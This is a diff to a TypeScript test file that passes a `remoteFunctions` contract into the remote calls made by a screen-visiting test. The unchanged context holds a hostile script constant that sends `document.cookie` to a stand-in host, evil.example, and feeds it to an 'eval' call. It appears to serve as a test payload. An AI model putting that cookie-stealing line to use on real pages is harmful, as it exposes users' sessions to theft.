@@ -18,6 +18,7 @@ import { sessionQueries } from '@/lib/session/api';
 import { world } from '@/mocks/world/store';
 import { createTestQueryClient } from './renderRoute';
 import { startSimulation } from './simulation';
+import { remoteFunctions } from '@/lib/extension/contract';
 
 const HOSTILE_SEARCH = 'Zebulon Quartermaine';
 const HOSTILE_SCRIPT = 'fetch("https://evil.example/steal?c=" + document.cookie)';
@@ -93,10 +94,10 @@ async function visitEveryScreen(client: QueryClient): Promise<void> {
   const sample = sampleProfileFrom(client.getQueryData(campaignEditorQueries.sampleProfile().queryKey));
   await client.fetchQuery(campaignEditorQueries.preview('Hi {{FIRST_NAME}}, Zebulon here', sample));
   // Calls whose payloads the journal holds: a backup restored, a script run, a file attached.
-  const backup = await callRemote('backupData');
-  await callRemote('restoreData', backup);
-  await callRemote('eval', HOSTILE_SCRIPT);
-  await callRemote('uploadFileToLinkedin', {
+  const backup = await callRemote(remoteFunctions, 'backupData');
+  await callRemote(remoteFunctions, 'restoreData', backup);
+  await callRemote(remoteFunctions, 'eval', HOSTILE_SCRIPT);
+  await callRemote(remoteFunctions, 'uploadFileToLinkedin', {
     size: 16,
     name: 'Contract Zebulon.txt',
     type: 'text/plain',
